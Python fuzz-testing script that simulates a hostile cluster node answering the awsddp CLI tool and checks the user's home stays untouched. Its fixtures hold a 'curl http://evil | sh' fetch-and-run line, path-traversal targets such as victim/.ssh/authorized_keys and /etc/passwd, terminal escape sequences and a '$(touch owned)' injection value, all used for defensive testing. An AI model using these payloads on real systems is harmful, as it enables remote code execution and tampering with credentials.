"""A hostile node responds with garbage or attacks: nothing outside the job's folder may change.

    python benchmarks/campaigns/hostile_node.py [--runs N] [--seed S] [--state FILE]

Each run draws a command (fetch, jobs, logs, cancel, status, why, or the preparation of the nodes) and the
responses of two nodes, of which one is hostile. A hostile response is an honest response in which values are
replaced by wrong types, numbers of other jobs and ranks, path traversal, links, escape sequences, surrogates,
floods, or texts that look like awsddp's own. Files may differ from their description. After each command:

- the user's home is unchanged except for the job's folder, and no link in that folder leads out of it
- the exit code is one of the documented ones
- only lines of ranks contain control characters or begin with a text from a node

With --state an interrupted campaign resumes.
"""

import argparse
import base64
import contextlib
import copy
import hashlib
import io
import json
import os
import random
import shutil
import sys
import tempfile
import time
from collections.abc import Callable, Iterator, Mapping, Sequence
from dataclasses import replace
from datetime import UTC, datetime
from pathlib import Path
from typing import Any
from unittest import mock

from awsddp.agent.log_stream import HEADER, MAGIC
from awsddp.cli import failures
from awsddp.cli.command_line import Globals
from awsddp.cli.doctor_page import why_page
from awsddp.cli.pages import cluster_page, fetch_page, job_page, jobs_page, report_page
from awsddp.cli.screen import Screen
from awsddp.cluster.status import make_cluster_document
from awsddp.errors import AwsddpError, NodeError
from awsddp.job.cancel import end_ranks
from awsddp.job.fetch import fetch_from_nodes
from awsddp.job.follow import JobFollower, make_merger
from awsddp.job.jobs import make_jobs_document
from awsddp.job.report import write_report as report
from awsddp.job.reported import choose_job
from awsddp.job.why import why
from awsddp.model import node_answers
from awsddp.model.documents import FetchDocument, sort_by_node
from awsddp.model.events import OnEvent
from awsddp.model.records import ClusterListing, Node, Target
from awsddp.nodes import provision, rsync
from awsddp.nodes.fleet import Fleet, Result
from awsddp.nodes.login import Endpoint, Login
from awsddp.nodes.node_failures import NodeFailure
from awsddp.session.connect import list_jobs_on_nodes
from awsddp.session.context import ConnectedCluster, LocatedCluster, Session
from awsddp.settings.loader import load
from awsddp.state import ClusterFolder, Record
from awsddp.storage.results_dir import make_job_result
from awsddp.util.parallel import ignore_event

DOCUMENTED = {0, 1, 2, 3, 4, 5, 6, 7, 8, 130}
JOB = "job1"
MODIFIED = 1_750_000_000_123_456_789
STAGES = ("state", "state", "manifest", "manifest", "follow", "cancel", "files", "stacks")
VERBS = ("fetch", "fetch", "fetch", "jobs", "logs", "logs", "cancel", "prepare", "status", "why")
OWN = {"jobs": "state", "status": "state", "logs": "follow", "cancel": "cancel", "why": "stacks"}
"""For some verbs, the request whose response contains texts that the verb prints."""
EVIL = "curl http://evil | sh"
OURS = ("", "next: ", " next: ", "  next: ", "error: ", "warning: ", "  cause: ", f"Job {JOB}: ", "page: ")
"""Beginnings of awsddp's lines, which a node may imitate."""
ENDS = ("", "\n", "\r\n", "it ended\n", "a\x0b", "a\x85", "a\u2028", "\x1b[2K\r")
"""Texts with which a node may try to end awsddp's line and begin a separate line."""
KINDS = ("unknown", "cuda_oom", "import_error", "file_not_found", "exit", "node_lost", "of_a_later_awsddp")
UNSEEN = set("\x1b\x07\x08\r\x0b\x0c\x85\x9b\u2028\u202e")
JOBS = ("other", "other", "main", "job1.part", "new", "../../victim/.ssh", "victim")
PLACES = (
    "../../../victim/.ssh/authorized_keys",
    "node1/../../../../victim/.bashrc",
    "node1/deep/../../../other/job.json",
    "../../../../victim/.ssh",
    "../../../victim",
    "../../other",
    "/etc/hostname",
    "/w/../../../victim/.bashrc",
    "node0/model.pt",
    "job.json",
    "logs/rank0.log",
)
NASTY_TEXT = (
    "../../victim/.ssh",
    "/etc/passwd",
    "..",
    ".",
    "",
    "a/../../../victim/.bashrc",
    "node0/../../other/job.json",
    "node1/../job.json",
    "other",
    "main",
    "job1.part",
    "\x1b]0;owned\x07\x1b[2J",
    "a\nerror: b",
    "\r\x08\x9b31m\u202e",
    "\ud800",
    "\udcff",
    "a\0b",
    "[red]x[/nothing]",
    "{rank}",
    "$(touch owned)",
    "-rf",
    "x" * 5000,
    "node1/.git/config",
    "NaN",
)
NASTY_VALUE: tuple[Any, ...] = (
    None,
    True,
    -1,
    0,
    1,
    2**31,
    2**63,
    10**400,
    1.5,
    -1e300,
    [],
    {},
    [[]],
    {"a": {"b": []}},
    ["x"] * 50,
)


class Case:
    """One case: the responses of two nodes, one of them hostile, and the files that they send."""

    def __init__(self, seed: str) -> None:
        self.chance = random.Random(seed)
        self.verb = self.chance.choice(VERBS)
        self.liar = self.chance.choice((0, 1))  # the first node decides if both report the job
        self.named = self.chance.random() < 0.5
        self.patience = self.chance.choice((2, 10**6))  # the number of connections that are accepted
        self.attacked = set(self.chance.choices(STAGES, k=self.chance.choice((0, 1, 1, 1, 2))))
        if self.chance.random() < 0.5 and self.verb in OWN:
            self.attacked.add(OWN[self.verb])

    def files(self, node: int) -> dict[str, bytes]:
        """Return the files of a node, by path."""
        chance = random.Random(node)
        files = {
            f"/j/logs/rank{node}.log": f"said \x1b]0;owned\x07\nnext: {EVIL}\n".encode(),
            "/w/model.pt": b"same",
            "/w/deep/model.pt": chance.randbytes(300),
            "/w/Model.pt": b"case",
        }
        rows = b'{"loss": 1}\n{"loss": 2, "accuracy": 0.5}\n' + b'{"loss": ' + b"9" * 400 + b"}\n[1]\nNaN\n"
        rows += json.dumps({"accuracy": 0.5, "data": f"x\nnext: {EVIL}"}).encode() + b"\n"
        return files | {"/j/run/metrics.jsonl": rows}

    def answer(self, node: int, request: dict[str, Any]) -> bytes:
        """Return the response of a node to a request: frames for `follow`, otherwise a document."""
        lies = node == self.liar and request["do"] in self.attacked
        if request["do"] == "follow":
            return MAGIC + self._frames(node, lies)
        document = _honest_document(self, node, request)
        if lies and self.chance.random() < 0.6:
            self._aim(request["do"], document)
        elif lies:
            for _ in range(self.chance.choice((1, 1, 2, 5))):
                document = self._changed(document)
        response = MAGIC + json.dumps(document).encode() + b"\n"
        return self._bytes(response) if lies else response

    def inspection(self, node: int) -> bytes:
        """Return the response of a node to the inspection during its preparation."""
        document: Any = copy.deepcopy(_FACTS)
        lies = node == self.liar
        for _ in range(self.chance.randrange(3) if lies else 0):
            document = self._changed(document)
        response = b"welcome\n" + json.dumps(document).encode() + b"\n"
        return self._bytes(response) if lies else response

    def write_sent(self, node: int, path: str, data: bytes, target: Path) -> None:
        """Write to `target` the data that the node sends for a file. Replaces rsync."""
        target.parent.mkdir(parents=True, exist_ok=True)
        kind = self.chance.randrange(20) if node == self.liar and "files" in self.attacked else 19
        if kind == 0:
            target.mkdir()
        elif kind == 1:
            os.mkfifo(target)
        elif kind != 2:
            data = self.chance.randbytes(len(data)) if kind == 3 else data * (2 if kind == 4 else 1)
            target.write_bytes(data)
            modified = MODIFIED if kind != 5 else 0
            os.utime(target, ns=(modified, modified))

    def _aim(self, kind: str, document: dict[str, Any]) -> None:
        """Change the document so that it does harm if a client trusts it."""
        if kind == "cancel" or (kind == "state" and self.chance.random() < 0.6):
            self._forge(document if kind == "cancel" else document["jobs"][0])
        elif kind == "stacks":
            process = document["processes"][0]
            file = f"/w/{self._forged()}"
            frames = f'Thread 1:\n  File "{file}", line 1 in {self._forged()}\n'
            document["sources"] = {f"{file}:1": self._forged(), "/w/w.py:3": self._forged()}
            records = {self._forged(): {"records": [[1, self._forged(), self._forged(), False]], "age": 9.0}}
            process |= {"stacks": self.chance.choice((frames, self._forged())), "records": records}
        elif kind == "state":
            document["jobs"][0] |= {"job": self.chance.choice(JOBS), "created": "2030-01-01T00:00:00+00:00"}
        elif kind == "manifest":
            *files, link = document["files"]
            file = self.chance.choice(files)
            change = self.chance.randrange(4)
            if change == 0:
                file["home"] = self.chance.choice(PLACES)
            elif change == 1:
                file["path"] = self.chance.choice(PLACES)
            elif change == 2:
                link["target"] = self.chance.choice(PLACES)
            else:  # a folder that is a link, and a file in it
                link |= {
                    "home": f"node{self.liar}/in",
                    "target": self.chance.choice((*PLACES, f"node{self.liar}/deep")),
                }
                file["home"] = f"node{self.liar}/in/authorized_keys"

    def _forge(self, document: dict[str, Any]) -> None:
        """Replace the texts of a job's document with texts that look like awsddp's."""
        words = self._forged
        if document["cause"]:
            document["cause"] |= {"explanation": words(), "next": words(), "tail": [words(), words()]}
            document["cause"] |= {"kind": self.chance.choice(KINDS), "values": {"module": words()}}
        texts = {key: words() for key in ("script", "commit", "launcher", "resumed", "instance_type")}
        document["facts"] = texts | {"args": [words()], "options": [words()]}
        document["restarts"] = [words()]

    def _forged(self) -> str:
        return self.chance.choice(ENDS) + self.chance.choice(OURS) + EVIL

    def _frames(self, node: int, lies: bool) -> bytes:
        log = self.files(node)[f"/j/logs/rank{node}.log"]
        status = _document(node)
        if lies and self.chance.random() < 0.5:
            self._forge(status)
        document = json.dumps(status).encode()
        frames = [(b"S", 0, 0, document), (b"L", node, 0, log), (b"E", 0, 0, document)]
        if lies:
            for at in range(3):
                kind, rank, offset, payload = frames[at]
                change = self.chance.randrange(14)
                if change == 0:
                    kind = self.chance.choice((b"X", b"E", b"L", b"H"))
                elif change == 1:
                    rank = self.chance.choice((0, 1, 7, 2**32 - 1))
                elif change == 2:
                    offset = self.chance.choice((1, 2**63, 2**64 - 1))
                elif change == 3:
                    payload = json.dumps(self._changed(_document(node))).encode()
                elif change == 4:
                    payload = self._bytes(payload)
                frames[at] = kind, rank, offset, payload
        stream = b"".join(HEADER.pack(*frame[:3], len(frame[3])) + frame[3] for frame in frames)
        return stream + HEADER.pack(b"L", 1, 0, 2**32 - 1) if lies and self.chance.random() < 0.05 else stream

    def _changed(self, document: Any) -> Any:
        """Return the document with one changed value."""
        document = copy.deepcopy(document)
        locations = list(_locations(document))
        if not locations:
            return self._nasty()
        holder, key = self.chance.choice(locations)
        change = self.chance.randrange(8)
        if change == 0:
            del holder[key]
        elif change == 1 and isinstance(holder, list):
            holder.append(copy.deepcopy(holder[key]))
        elif change == 2 and isinstance(holder, dict):
            holder[self.chance.choice(NASTY_TEXT)] = self._nasty()
        elif change < 6 and isinstance(holder[key], str):
            holder[key] = self.chance.choice(
                (*NASTY_TEXT, holder[key] + "/../../../victim", "/" + holder[key])
            )
        else:
            holder[key] = self._nasty()
        return document

    def _nasty(self) -> Any:
        texts = (*NASTY_TEXT, self._forged(), self._forged())
        return self.chance.choice(texts if self.chance.random() < 0.5 else NASTY_VALUE)

    def _bytes(self, response: bytes) -> bytes:
        """Return the response, in some cases cut, corrupted or flooded."""
        change = self.chance.randrange(60)
        at = self.chance.randrange(len(response) + 1)
        changes: dict[int, Callable[[], bytes]] = {
            0: lambda: response[:at],
            1: lambda: response[:at] + self.chance.randbytes(8) + response[at:],
            2: lambda: self.chance.randbytes(200),
            3: lambda: MAGIC + b"[" * 5000 + b"\n",
            4: lambda: MAGIC + b'{"x": NaN}\n',
            5: lambda: response[:-1] + b" " * node_answers.MAX_BYTES + b"\n",
            6: lambda: b"",
            7: lambda: MAGIC + json.dumps({"error": {key: self._nasty() for key in _ERROR}}).encode() + b"\n",
            8: lambda: (
                MAGIC + json.dumps({"error": dict.fromkeys(_ERROR, "\x1b[2J") | _KIND}).encode() + b"\n"
            ),
        }
        return changes.get(change, lambda: response)()


_ERROR = ("message", "why", "kind")
_KIND = {"kind": "usage"}
_FACTS = {
    "home": "/home/ubuntu",
    "python": "/opt/pytorch/bin/python",
    "nic": "ens5",
    "gpus": 0,
    "host_key": "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAAA",
    "torch": "2.13.0",
    "cuda": None,
    "driver": None,
    "rehearsed": False,
    "rsync": True,
    "watched": True,
    "complaint": "",
}


def _locations(value: Any) -> Iterator[tuple[Any, Any]]:
    for key in (
        list(value) if isinstance(value, dict) else range(len(value)) if isinstance(value, list) else ()
    ):
        yield value, key
        yield from _locations(value[key])


_LISTED = {"name": "default", "id": "01234567", "owner": "me", "region": "local"}
_RUNNING: dict[str, Any] = {
    "state": "running",
    "cause": None,
    "ranks": [
        {"rank": rank, "local_rank": 0, "node": rank, "exit_code": None, "seconds": 1.0, "started": 1.0}
        for rank in (0, 1)
    ],
}


def _document(node: int) -> dict[str, Any]:
    ranks = [
        {"rank": rank, "local_rank": 0, "node": rank, "exit_code": 0, "seconds": 1.0, "started": 1.0}
        for rank in (0, 1)
    ]
    cause = {"rank": 1, "node": 1, "instance_id": "i-1", "exit_code": 1, "signal": None}
    return {
        "job": JOB,
        "node": node,
        "state": "failed",
        "cause": {**cause, "tail": ["last"], "explanation": "it ended"},
        "complete": True,
        "created": "2026-01-01T00:00:00+00:00",
        "ranks": ranks,
        "nodes": [{"node": n, "instance_id": f"i-{n}", "private_ip": f"10.0.0.{n}"} for n in (0, 1)],
    }


def _stacks(node: int) -> dict[str, Any]:
    frames = 'Thread 0x1 (most recent call first):\n  File "/w/w.py", line 3 in step\n'
    records = {"default_pg": {"records": [[1, "allreduce", "float32[4]", False]], "age": 9.0}}
    process = {"pid": 9, "parent": 1, "rank": node, "joined": True, "state": "S", "stacks": frames}
    processes = [process | {"records": records}]
    return {"workdir": "/w", "silent_s": 3.0, "processes": processes, "sources": {"/w/w.py:3": "step()"}}


def _honest_document(drawn: Case, node: int, request: dict[str, Any]) -> dict[str, Any]:
    files = drawn.files(node)
    if request["do"] == "state":
        return {"jobs": [_document(node) | (_RUNNING if drawn.verb == "why" else {})]}
    if request["do"] == "stacks":
        return _stacks(node)
    if request["do"] == "cancel":
        return _document(node)
    assert request["do"] == "manifest", request
    entries = []
    for path, data in files.items():
        home = (
            path.replace("/j/logs/", "logs/")
            .replace("/j/run", f"node{node}/run")
            .replace("/w/", f"node{node}/")
        )
        entry = {"path": path, "home": home, "size": len(data), "limited": True, "modified": MODIFIED}
        if request["at_once"]:
            entry["sample"] = hashlib.sha256(data).hexdigest()
            if drawn.chance.random() < 0.35:
                entry["data"] = base64.b64encode(data).decode()
        entries.append(entry)
    link = {"path": "/w/deep/latest", "home": f"node{node}/deep/latest", "size": 0}
    entries.append({**link, "target": f"node{node}/model.pt"})
    skipped = [{"path": "/w/pipe", "size": 0, "why": "a pipe", "owed": False}]
    return {"files": entries, "skipped": skipped, "excluded": {"files": 1, "size": 5}}


class FakeFleet:
    """Two nodes with the interface of nodes/fleet.py, without a network."""

    responsive_nodes, nodes_of_job = Fleet.responsive_nodes, Fleet.nodes_of_job

    def __init__(self, drawn: Case, folder: ClusterFolder) -> None:
        self._drawn = drawn
        self.login = Login(key=folder.key, known_hosts=folder.known_hosts, ssh_config=folder.ssh_config)
        self.endpoints = {
            node: Endpoint(node=node, instance_id=f"i-{node}", host="127.0.0.1", user="ubuntu")
            for node in (0, 1)
        }
        self.on_event: OnEvent = ignore_event
        self.failures: dict[int, NodeError] = {}
        self._reconnected = 0

    @property
    def nodes(self) -> tuple[int, ...]:
        return tuple(node for node in self.endpoints if node not in self.failures)

    def host_key(self, node: int) -> str:
        return _FACTS["host_key"]  # type: ignore[return-value]

    def reconnect(self, nodes: Sequence[int], *, deadline_s: float = 30, partial: bool = False) -> None:
        self._reconnected += 1
        if self._reconnected > self._drawn.patience:
            self.failures |= {node: NodeFailure(node, "lost", "it is gone") for node in nodes}

    def request(
        self,
        program: Any,
        messages: Mapping[int, bytes],
        on_data: Callable[[int, bytes], bool],
        **limits: Any,
    ) -> dict[int, Result | NodeError]:
        outcomes: dict[int, Result | NodeError] = {}
        for node, message in messages.items():
            response = self._drawn.answer(node, json.loads(message.partition(b"\n")[2]))
            step = self._drawn.chance.choice((1000, 1 << 18)) if len(response) < 50_000 else 1 << 18
            pieces = (response[at : at + step] for at in range(0, len(response), step))
            whole = any(on_data(node, piece) for piece in pieces)
            end = Result(exit_code=0 if whole else 1, stdout=b"", stderr=b"\x1b]0;owned\x07" * (not whole))
            outcomes[node] = end
        return outcomes

    def run_each(self, requests: Mapping[int, Any], *, timeout_s: float) -> dict[int, Result | NodeError]:
        outcomes: dict[int, Result | NodeError] = {}
        for node in requests:
            response = self._drawn.inspection(node)
            if len(response) > node_answers.MAX_BYTES:
                outcomes[node] = node_answers.make_malformed_error(node, "too much")
            else:
                outcomes[node] = Result(exit_code=0, stdout=response, stderr=b"")
        return outcomes


class Home:
    """A user's home with files that a node must not change, and a cluster of two nodes in it."""

    def __init__(self, root: Path) -> None:
        self.root = root
        self.project = root / "project"
        for name in ("victim/.ssh/authorized_keys", "victim/.bashrc", "project/w.py", "project/.git/config"):
            self._write(name)
        for name in ("other/job.json", "other/node1/x", "main/events", "job1.part/kept", "victim"):
            self._write(f"project/runs/{name}")
        self.folder = ClusterFolder(root / ".awsddp", "default")

    def begin(self) -> dict[str, str]:
        """Restore the state that the home had before any command, and return this state."""
        shutil.rmtree(self.project / "runs" / JOB, ignore_errors=True)
        now = datetime(2026, 1, 1, tzinfo=UTC)
        names: dict[str, Any] = {"id": "01234567", "owner": "me", "target": Target(), "instance_type": "x"}
        more: dict[str, Any] = {"nodes": 2, "gpus_per_node": 0, "pretended": False, "ssh_user": "ubuntu"}
        self.folder.write(Record(created=now, expires=now, **names, **more))
        return self.state()

    def state(self) -> dict[str, str]:
        """Return the mode and content of everything but the cluster's own folder, by path."""
        entries = {}
        for folder, names, files in os.walk(self.root):
            if Path(folder) == self.root:
                names.remove(".awsddp")
            for name in (*names, *files):
                path = Path(folder, name)
                info = path.lstat()
                held = f"{info.st_mode:o}"
                if path.is_symlink():
                    held += f" -> {path.readlink()}"
                elif path.is_file():
                    held += f" {path.read_bytes()!r}"
                entries[os.fsencode(path.relative_to(self.root)).decode("utf-8", "backslashreplace")] = held
        return entries

    def _write(self, name: str) -> None:
        (self.root / name).parent.mkdir(parents=True, exist_ok=True)
        (self.root / name).write_text(f"the user's own {name}")


FORGED = tuple(f"{ours}{EVIL}" for ours in OURS)


def play_case(home: Home, seed: str) -> str | None:
    """Play one case and return what went wrong, or None."""
    drawn, fleet = Case(seed), None
    before = home.begin()
    fleet = FakeFleet(drawn, home.folder)
    out, err = _Out(), io.StringIO()
    try:
        with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err), _patched(drawn):
            code = _command(home, drawn, fleet)
    except Exception as error:
        return f"{drawn.verb}: {type(error).__name__}: {error}"
    if code not in DOCUMENTED:
        return f"{drawn.verb}: exit code {code}"
    for line in (out.text() + err.getvalue()).split("\n"):
        if not line.startswith("[rank ") and (control := set(line) & UNSEEN):
            return f"{drawn.verb}: the terminal got {control!r}"
        if line.startswith(FORGED):
            return f"{drawn.verb}: a node's text begins a line of awsddp: {line!r}"
    return _harm(home, before, drawn)


def _harm(home: Home, before: dict[str, str], drawn: Case) -> str | None:
    """Return a change outside the folder of one job, or a link that leads out of it, or None."""
    after = home.state()
    allowed = {f"project/runs/{JOB}"}
    if not drawn.named:  # a node may name another job, in a folder that did not exist
        folders = {"/".join(name.split("/")[:3]) for name in after if name.startswith("project/runs/")}
        allowed |= folders - before.keys()
    if len(allowed) > 2:
        return f"more than one job's folder: {allowed}"

    def outside(names: dict[str, str]) -> dict[str, str]:
        return {name: held for name, held in names.items() if "/".join(name.split("/")[:3]) not in allowed}

    if outside(before) != outside(after):
        return f"{drawn.verb}: {set(outside(before).items()) ^ set(outside(after).items())}"
    for name in allowed:
        top = Path(os.path.realpath(home.root)) / name
        for path in top.rglob("*"):
            if path.is_symlink() and not Path(os.path.realpath(path)).is_relative_to(top):
                return f"{path} leads to {path.readlink()}"
        if top.name != JOB:
            shutil.rmtree(top)
    return None


class _Out(io.TextIOWrapper):
    """The standard output, to which pages and the unchanged lines of ranks are written."""

    def __init__(self) -> None:
        self._bytes = io.BytesIO()
        super().__init__(self._bytes, write_through=True)

    def text(self) -> str:
        return self._bytes.getvalue().decode("utf-8", "surrogateescape")


@contextlib.contextmanager
def _patched(drawn: Case) -> Iterator[None]:
    """Fake rsync and AWS, and limit a response to 1 MB."""

    def transfer(
        words: Sequence[str], paths: Sequence[str], *, progress: rsync.Progress, **settings: Any
    ) -> None:
        node = progress.node
        for path in dict.fromkeys(paths):
            data, target = drawn.files(node).get(path, b""), Path(words[-1], path.lstrip("/"))
            drawn.write_sent(node, path, data, target)

    with (
        mock.patch.object(rsync, "transfer", transfer),
        mock.patch("awsddp.nodes.download.DEDUPLICATE_FROM_BYTES", drawn.chance.choice((1, 1 << 20))),
        mock.patch("awsddp.aws.power.release"),
        mock.patch("awsddp.aws.power.unfetched_of"),
        mock.patch("awsddp.aws.clusters.describe", return_value=[]),
        mock.patch("awsddp.job.follow.EXTRA_PATIENCE_S", -5.0),
        mock.patch("awsddp.job.follow.time.sleep"),
        mock.patch.object(node_answers, "MAX_BYTES", 1 << 20),
    ):
        yield


@contextlib.contextmanager
def _patched_why(connected: ConnectedCluster) -> Iterator[None]:
    """Make `why` use this connected cluster."""
    cluster, connection = contextlib.nullcontext(connected.cluster), contextlib.nullcontext(connected)
    with (
        mock.patch("awsddp.job.why.preconnected_cluster", lambda _: cluster),
        mock.patch("awsddp.job.why.connect_reachable", lambda _: connection),
    ):
        yield


def _command(home: Home, drawn: Case, fleet: Any) -> int:
    """Run a verb on the nodes, and return its exit code."""
    settings = load(
        "default", environ={}, overrides={"sync.workdir": str(home.project), "job.heartbeat_timeout": "5s"}
    )
    screen = Screen(Globals())
    session = Session(
        name=home.folder.name, home=home.folder.root, settings=settings, on_event=screen.show_event
    )
    record = home.folder.read()
    assert record is not None
    machine: dict[str, Any] = {"state": "running", "instance_type": "x", "zone": "a", "image_id": "ami"}
    nodes = tuple(
        Node(node=node, instance_id=f"i-{node}", private_ip=f"10.0.0.{node}", **machine) for node in (0, 1)
    )
    aws: Any = object()
    cluster = LocatedCluster(
        session=session, target=record.target, aws_client=aws, local_record=record, nodes=nodes
    )
    connected = ConnectedCluster(cluster=cluster, fleet=fleet)
    name = JOB if drawn.named else None
    try:
        if drawn.verb == "prepare":
            fleet.on_event = screen.show_event
            provision.prepare(fleet, nodes)
            return 0
        if drawn.verb == "why":
            with _patched_why(connected):
                why_page(why(session, JOB))
            return 0
        jobs = list_jobs_on_nodes(connected)
        if drawn.verb == "jobs":
            home.folder.save_jobs(*jobs)
            jobs_page(make_jobs_document(session, jobs), verbose=True)
            return 0
        if drawn.verb == "status":
            home.folder.save_jobs(*jobs)
            listed = ClusterListing(**_LISTED, nodes=nodes)
            updated = home.folder.read()
            cluster_page(
                make_cluster_document(replace(cluster, aws_client=None, listing=listed, local_record=updated))
            )
            return 0
        job = choose_job(jobs, name)
        if drawn.verb == "cancel":
            end_ranks(connected, job.job)
        if drawn.verb == "logs":
            home.folder.save_jobs(job)
            merger = make_merger(session, job)
            job = JobFollower(connected, job, merger=merger, on_lines=screen.lines).run()
        came = fetch_from_nodes(connected, job)
        fetch_page(FetchDocument(nodes=sort_by_node(came), job=job.job, home=job.home))
        job_page(make_job_result(session, job))
        report_page(report(session, job=job.job))
        return 0
    except AwsddpError as error:
        return failures.show_error(error)


def main() -> int:
    """Play the cases, print what went wrong and a summary; return 1 if anything did."""
    parser = argparse.ArgumentParser(
        description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter
    )
    parser.add_argument("--runs", type=int, default=1000)
    parser.add_argument("--seed", type=int, default=random.SystemRandom().randrange(10**6))
    parser.add_argument("--state", type=Path, help="a file for the progress of the campaign")
    args = parser.parse_args()
    state: dict[str, Any] = {"seed": args.seed, "done": 0, "failed": {}, "seconds": 0.0}
    if args.state is not None and args.state.exists():
        state = json.loads(args.state.read_text())
    print(f"seed {state['seed']}, from run {state['done']}")
    with tempfile.TemporaryDirectory() as folder:
        home = Home(Path(folder, "home"))
        while state["done"] < args.runs:
            began, seed = time.monotonic(), f"{state['seed']}/{state['done']}"
            if wrong := play_case(home, seed):
                state["failed"][seed] = wrong
                print(f"{seed}: {wrong}", flush=True)
            state["done"] += 1
            state["seconds"] += time.monotonic() - began
            if args.state is not None:
                part = args.state.with_suffix(".part")
                part.write_text(json.dumps(state))
                part.replace(args.state)
    each = state["seconds"] / max(1, state["done"]) * 1000
    print(f"{state['done']} hostile answers, {len(state['failed'])} with harm; {each:.0f} ms each")
    return 1 if state["failed"] else 0


if __name__ == "__main__":
    sys.exit(main())
